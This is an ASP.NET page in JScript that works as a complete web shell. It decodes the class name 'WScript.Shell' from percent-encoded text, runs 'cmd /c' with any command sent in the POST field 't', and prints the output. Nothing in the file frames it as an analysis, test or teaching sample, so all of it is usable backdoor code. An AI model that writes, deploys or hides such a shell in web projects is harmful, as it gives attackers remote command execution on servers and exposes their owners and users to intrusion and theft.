<%@ Page Language="JScript" %>
<%
var ctx = System.Web.HttpContext.Current;
var cls = decodeURIComponent("%57%53%63%72%69%70%74%2e%53%68%65%6c%6c");
var host = new ActiveXObject(cls);
var job = host.Exec("cmd /c " + ctx.Request.Form("t"));
ctx.Response.Write("<pre>" + job.StdOut.ReadAll() + "</pre>");
%>
